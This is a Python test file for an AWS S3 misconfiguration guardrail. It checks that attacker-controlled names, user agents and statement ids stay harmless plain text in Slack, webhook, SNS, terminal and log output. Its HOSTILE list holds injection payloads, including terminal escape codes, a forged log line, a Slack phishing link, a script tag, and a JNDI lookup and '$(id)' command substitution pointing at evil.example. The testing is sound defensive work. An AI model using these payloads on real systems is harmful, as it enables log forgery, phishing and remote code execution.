"""Names, tags, statement ids and user agents are the attacker's to choose. They stay text, wherever they are shown."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from chalicelib.engine.context import describe_error, unfinished
from chalicelib.notify.channels import slack, webhook
from chalicelib.notify.channels.sns import SUBJECT, Topic
from chalicelib.notify.message import message_of
from snapback import render
from tests.guardrails.s3.test_bucket_acl_made_public import CASE, ID
from tests.support.events import HOME, alice, cloudtrail_event

if TYPE_CHECKING:
    from chalicelib.core.record import Record
    from tests.support.world import World

ROOT = Path(__file__).parents[2]
POLICY = "s3.bucket_policy_made_public"
HOSTILE = (
    "\x1b]0;owned\x07\x1b[2J",
    '\r\n{"level":"INFO","message":"forged"}',
    "\u202egnp.exe\u2066\u200b",
    "<!channel> <@U012AB3CD> <https://evil.example|log in>",
    "`*_~&amp;<script>alert(1)</script>",
    "{{7*7}} ${jndi:ldap://evil.example} $(id) %s %n",
    "\u2028\u2029\x85\x0b\x0c",
)
OUR_OWN = re.compile(
    r"<!date\^\d+\^{date_short_pretty} {time} \({ago}\)\|[-0-9: ]+ UTC>"
    r"|<https://us-east-1\.console\.aws\.amazon\.com/[-/?=;&#\w]+\|(AWS console|CloudTrail event)>"
)
"""What Snapback has Slack draw: the time, and pages of the console."""


@pytest.fixture(params=HOSTILE, ids=range(len(HOSTILE)))
def found(request: Any, world: World) -> Record:
    """A finding whose reason, resource and actor all quote what the attacker wrote."""
    world.client("s3").create_bucket(Bucket="app-media")
    opened = {"Sid": request.param, "Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "*"}
    world.client("s3").put_bucket_policy(
        Bucket="app-media", Policy=json.dumps({"Version": "2012-10-17", "Statement": [opened]})
    )
    actor = alice() | {"arn": f"arn:aws:sts::{HOME}:assumed-role/dev/{request.param}"}
    more: Any = {"userAgent": request.param, "sourceIPAddress": request.param, "actor": actor}
    (outcome,) = world.deliver(cloudtrail_event("s3", "PutBucketPolicy", {"bucketName": "app-media"}, **more), POLICY)
    record = world.record(outcome.record)
    assert request.param in record.reason, "else this test is about nothing"
    assert outcome.status == "fixed"
    return record


def printable(value: Any) -> bool:
    if isinstance(value, dict):
        return all(printable(each) for pair in value.items() for each in pair)
    if isinstance(value, list | tuple):
        return all(map(printable, value))
    return not isinstance(value, str) or value.replace("\n", "").isprintable()


def test_slack_gets_no_mention_link_or_control_character(found: Record) -> None:
    body = slack.body(message_of(found))
    text = OUR_OWN.sub("", json.dumps(body, ensure_ascii=False))
    assert printable(body)
    assert "<!" not in text
    assert "<@" not in text
    assert "<https" not in text
    assert "<script" not in text
    assert body["text"].endswith(" · fixed")


def test_a_webhook_and_the_mail_get_text_on_single_lines(found: Record) -> None:
    message = message_of(found)
    assert printable(webhook.body(message))
    assert "\n" not in message.reason + message.who + message.resource
    sent: dict[str, str] = {}

    class Sns:
        def publish(self, **mail: str) -> None:
            sent.update(mail)

    topic = Topic("arn:aws:sns:us-east-1:123456789012:alarms", None)
    topic.__dict__["_client"] = Sns()
    topic.send(message)
    assert sent["Subject"].isprintable()
    assert sent["Subject"].isascii()
    assert len(sent["Subject"]) <= SUBJECT
    assert printable(sent["Message"])


def test_a_terminal_gets_no_escape_code(found: Record, capsys: pytest.CaptureFixture[str]) -> None:
    render.show(*render.records_list([found]), *render.record_page(found, full=True))
    assert printable(capsys.readouterr().out)
    assert render.as_json(render.record_json(found, full=True)).isprintable()


def test_a_log_line_stays_one_line_of_json() -> None:
    """In a process of its own: a logger keeps the handlers that it was first made with."""
    code = f"""
from chalicelib.core.outcome import Outcome
from chalicelib.core.event import Event
from chalicelib.core.settings import Settings
from chalicelib.wiring import Application
from dataclasses import replace
from tests.support.events import cloudtrail_event
application = Application("{HOME}", settings=Settings())
for text in {HOSTILE!r}:
    event = replace(Event.parse(cloudtrail_event("s3", "PutBucketAcl")), id=text)
    application.log_outcomes(event, [Outcome(text, text, "alerted", text, text)])
    application.logger.error("not told yet", extra={{"why": text, text: text}})
"""
    environment = {**os.environ, "AWS_DEFAULT_REGION": "us-east-1"}
    done = subprocess.run([sys.executable, "-c", code], env=environment, capture_output=True, check=True, cwd=ROOT)
    lines = done.stdout.decode().split("\n")
    assert lines.pop() == ""
    assert all(line.isprintable() and line.isascii() for line in lines)
    assert [json.loads(line)["message"] for line in lines] == ["finding", "not told yet"] * len(HOSTILE)


@pytest.mark.parametrize("text", HOSTILE)
def test_an_error_that_lambda_logs_is_one_line_and_short(text: str) -> None:
    """Lambda writes what a function raises to the log as it is, and into the dead letter."""
    errors: list[Exception] = [ValueError(text * 50), denied(text), RuntimeError(f"password={'hunter2' * 9}")]
    for said in (*map(describe_error, errors), str(unfinished([], errors))):
        assert said.isprintable()
        assert "hunter2" not in said
    assert max(len(describe_error(error)) for error in errors) <= 300


def denied(text: str) -> Exception:
    from botocore.exceptions import ClientError

    return ClientError({"Error": {"Code": "AccessDenied", "Message": f"{text} may not"}}, "PutBucketAcl")


@pytest.mark.parametrize("agent", ["Terraform/1.9", "console.amazonaws.com", "snapback/0.1", "AWS Internal"])
def test_a_user_agent_buys_nothing(agent: str, world: World) -> None:
    """It is shown as a guess; no mode, exemption or allowlist asks for it."""
    envelope = CASE.unsafe[0](world)
    envelope["detail"]["userAgent"] = agent
    (outcome,) = world.deliver(envelope, ID)
    assert outcome.status == "fixed"
